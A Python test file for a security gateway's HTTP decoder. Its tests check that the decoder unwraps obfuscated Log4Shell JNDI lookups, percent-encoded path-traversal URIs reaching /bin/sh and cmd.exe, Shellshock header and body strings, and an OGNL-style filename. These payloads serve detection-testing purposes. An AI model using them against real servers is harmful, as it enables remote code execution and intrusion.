"""gateway/decode/http_fields.py and the derived http.* fields of the HTTP adapter."""

from __future__ import annotations

import base64
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.decode.app import HttpAdapter
from gateway.decode.http_fields import (
    MAX_DERIVED_BYTES,
    MAX_HEADER_LINES,
    basic_credentials,
    climb_depth,
    full_percent_decode,
    header_lines,
    lookup_text,
    resolve_lookups,
    url_params,
)


@pytest.mark.parametrize(
    ("text", "resolved"),
    [
        ("${jndi:ldap://x/a}", "${jndi:ldap://x/a}"),
        ("${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://x}", "${jndi:ldap://x}"),
        ("${${lower:J}ndi:x}", "${jndi:x}"),
        ("${${lower:${lower:jndi}}:${lower:ldap}://x}", "${jndi:ldap://x}"),
        ("${${env:NOPE:-j}${upper:n}di:x}", "${jNdi:x}"),
        ("${${date:'j'}ndi:x}", "${jndi:x}"),
        ("${j${k8s:k5:-ND}i:x}", "${jNDi:x}"),
        ("Hello ${name} and ${env:HOME}", "Hello ${name} and ${env:HOME}"),
        ("no lookup", "no lookup"),
        ("${unclosed", "${unclosed"),
    ],
)
def test_resolve_lookups(text: str, resolved: str) -> None:
    assert resolve_lookups(text) == resolved


def test_lookup_text_decodes_percent_forms_and_skips_plain_parts() -> None:
    out = lookup_text(["GET", "/a?q=%24%7B%24%7Blower%3Aj%7Dndi%3Ax%7D", "curl/8"])
    assert "${jndi:x}" in out
    assert lookup_text(["GET", "/index.html"]) == ""


def test_basic_credentials() -> None:
    token = base64.b64encode(b"user:${jndi:x}").decode()
    assert basic_credentials(f"Basic {token}") == "user:${jndi:x}"
    assert basic_credentials(f"basic   {token.rstrip('=')}") == "user:${jndi:x}"
    assert basic_credentials("Bearer abc") is None
    assert basic_credentials(None) is None
    basic_credentials("Basic !!!")  # undecodable: no exception


def test_url_params_and_percent_decode() -> None:
    assert url_params("a=%28%29+%7B&b=2&&c") == "a=() {\nb=2\nc"
    assert full_percent_decode("%252e%u002e") == ".."
    assert full_percent_decode("100%") == "100%"


@pytest.mark.parametrize(
    ("uri", "depth"),
    [
        ("/index.html", 0),
        ("/a/b/../../c", 0),
        ("/a/../../etc/passwd", 1),
        ("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", 2),
        ("/cgi-bin/.%%32%65/.%%32%65/bin/sh", 1),
        ("/scripts/..%c0%af../winnt/system32/cmd.exe", 1),
        ("/scripts/..%c1%9c../winnt/system32/cmd.exe", 1),
        ("/scripts/..%255c../winnt/system32/cmd.exe", 1),
        ("/x?next=../../../etc", 0),
    ],
)
def test_climb_depth(uri: str, depth: int) -> None:
    assert climb_depth(uri) == depth


def test_header_lines_bounded() -> None:
    assert header_lines([("a", "1"), ("b", "() {")]) == "a: 1\nb: () {"
    many = [("x", "y" * 10000)] * 110
    cuts: list[str] = []
    assert len(header_lines(many, cuts)) <= MAX_HEADER_LINES
    assert cuts == [f"bytes past {MAX_HEADER_LINES}"]


def test_adapter_emits_derived_fields_whole_and_byte_by_byte() -> None:
    body = b"x=%28%29+%7B+%3A%3B%7D%3B+id&t=%24%7Bjndi%3Aa%7D"
    request = (
        b"POST /cgi-bin/../../x?q=1 HTTP/1.1\r\nHost: h\r\nUser-Agent: () { :;}\r\n"
        b"Authorization: Basic " + base64.b64encode(b"u:p") + b"\r\n"
        b"Content-Type: application/x-www-form-urlencoded\r\n"
        b"Content-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body
    )
    for pieces in ([request], [request[i : i + 1] for i in range(len(request))]):
        adapter = HttpAdapter()
        records = [r for piece in pieces for r in adapter.feed(piece)]
        head, end = records
        assert head.fields["http.header_lines"].endswith(
            b"content-length: " + str(len(body)).encode()
        )  # type: ignore[union-attr]
        assert b"user-agent: () { :;}" in head.fields["http.header_lines"]  # type: ignore[operator]
        assert head.fields["http.uri.climb"] == 1
        assert head.fields["http.query"] == b"q=1"
        assert head.fields["http.auth.basic"] == b"u:p"
        assert "http.body_params" not in head.fields
        assert end.fields["http.body_params"] == b"x=() { :;}; id\nt=${jndi:a}"
        assert b"${jndi:a}" in end.fields["http.lookups"]  # type: ignore[operator]


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="${}:-jndilowerupe%2479BDbcx'", max_size=300))
def test_resolution_never_raises_and_stays_bounded(text: str) -> None:
    assert len(resolve_lookups(text)) <= MAX_DERIVED_BYTES
    assert len(lookup_text([text, text])) <= MAX_DERIVED_BYTES
    climb_depth(text)
    url_params(text)


def test_lookups_of_any_nesting_and_behind_any_padding_are_resolved() -> None:
    deep = "${::-" * 500 + "j" + "}" * 500  # 500 nested defaults: each yields the next
    assert resolve_lookups("${" + deep + "ndi:ldap://x/a}") == "${jndi:ldap://x/a}"
    padded = "A" * 100_000 + "${${lower:J}ndi:ldap://x/b}"
    assert "${jndi:ldap://x/b}" in resolve_lookups(padded)
    assert resolve_lookups("a}b${c") == "a}b${c"  # stray and unclosed braces stay as written


def test_request_bodies_are_decoded_as_the_application_reads_them() -> None:
    import gzip
    import zlib

    from gateway.decode.http_fields import decode_content, json_params, multipart_params

    assert decode_content(gzip.compress(b"abc"), "gzip", 100) == b"abc"
    assert decode_content(zlib.compress(b"abc"), "deflate", 100) == b"abc"
    raw = zlib.compressobj(wbits=-15)
    assert decode_content(raw.compress(b"abc") + raw.flush(), "deflate", 100) == b"abc"
    assert decode_content(gzip.compress(b"x" * 10_000), "gzip", 64) == b"x" * 64  # bounded
    assert decode_content(b"not gzip", "gzip", 100) is None
    assert decode_content(b"abc", "br", 100) is None  # a coding it cannot undo: the body as sent
    body = (
        b'--b1\r\nContent-Disposition: form-data; name="f"; filename="%{#x}.txt"\r\n'
        b"Content-Type: text/plain\r\n\r\nfile data\r\n--b1\r\n"
        b'Content-Disposition: form-data; name="note"\r\n\r\nhi\r\n--b1--\r\n'
    )
    assert multipart_params(body, 'multipart/form-data; boundary="b1"').split("\n") == [
        "f=file data",
        "filename=%{#x}.txt",
        "note=hi",
    ]
    assert multipart_params(body, "multipart/form-data") == ""  # no boundary, no parts
    assert json_params(b'{"a": {"b": "\\u0024{x}"}, "c": [1]}').split("\n") == [
        "c[0]=1",
        "a.b=${x}",
    ]
    assert json_params(b'{"a": "\\u0024{x}"') == '{"a": "${x}"'  # unparsable: escapes decoded
    assert len(json_params(b"[" * 100_000)) <= MAX_DERIVED_BYTES  # too deep for the parser: bounded


def test_every_cut_of_a_derived_field_is_noted() -> None:
    """What a bound leaves out is noted in `cuts` (the engine's `limits.field`); what fits is
    not, so an ordinary request never raises the limit."""
    from gateway.decode.http_fields import (
        MAX_PARAMS,
        form_params,
        json_params,
        multipart_params,
    )

    many = "&".join(f"p{i}=1" for i in range(MAX_PARAMS)) + "&evil=x"
    fits = "&".join(f"p{i}=1" for i in range(MAX_PARAMS))
    long_value = "a=" + "A" * (MAX_DERIVED_BYTES + 1)
    boundary = "multipart/form-data; boundary=XX"

    def part(i: int) -> bytes:
        return b'--XX\r\nContent-Disposition: form-data; name="f%d"\r\n\r\nv\r\n' % i

    parts = b"".join(part(i) for i in range(MAX_PARAMS + 1)) + b"--XX--\r\n"
    doc = json.dumps({f"k{i}": i for i in range(MAX_PARAMS + 1)}).encode()
    cases_cut = [
        lambda cuts: url_params(many, cuts),
        lambda cuts: url_params(long_value, cuts),
        lambda cuts: form_params(many.encode(), "utf-8", cuts),
        lambda cuts: form_params(("a=" + "B" * MAX_DERIVED_BYTES * 4).encode(), "utf-8", cuts),
        lambda cuts: header_lines([("x-pad", "C" * MAX_HEADER_LINES)], cuts),
        lambda cuts: json_params(doc, cuts),
        lambda cuts: multipart_params(parts, boundary, None, cuts),
        lambda cuts: lookup_text([f"${{jndi:{i}" + "D" * 300 + "}" for i in range(240)], cuts),
    ]
    for n, case in enumerate(cases_cut):
        cuts: list[str] = []
        case(cuts)
        assert cuts, n
    small_parts = b"".join(part(i) for i in range(MAX_PARAMS)) + b"--XX--\r\n"
    cases_whole = [
        lambda cuts: url_params(fits, cuts),
        lambda cuts: url_params(fits + "&&&", cuts),
        lambda cuts: form_params(fits.encode(), "utf-8", cuts),
        lambda cuts: header_lines([("host", "lab"), ("x-a", "b" * 1000)], cuts),
        lambda cuts: json_params(json.dumps({"a": [1, 2, {"b": "c"}]}).encode(), cuts),
        lambda cuts: multipart_params(small_parts, boundary, None, cuts),
        lambda cuts: lookup_text(["${jndi:ldap://x}"], cuts),
    ]
    for n, case in enumerate(cases_whole):
        cuts = []
        case(cuts)
        assert not cuts, (n, cuts)
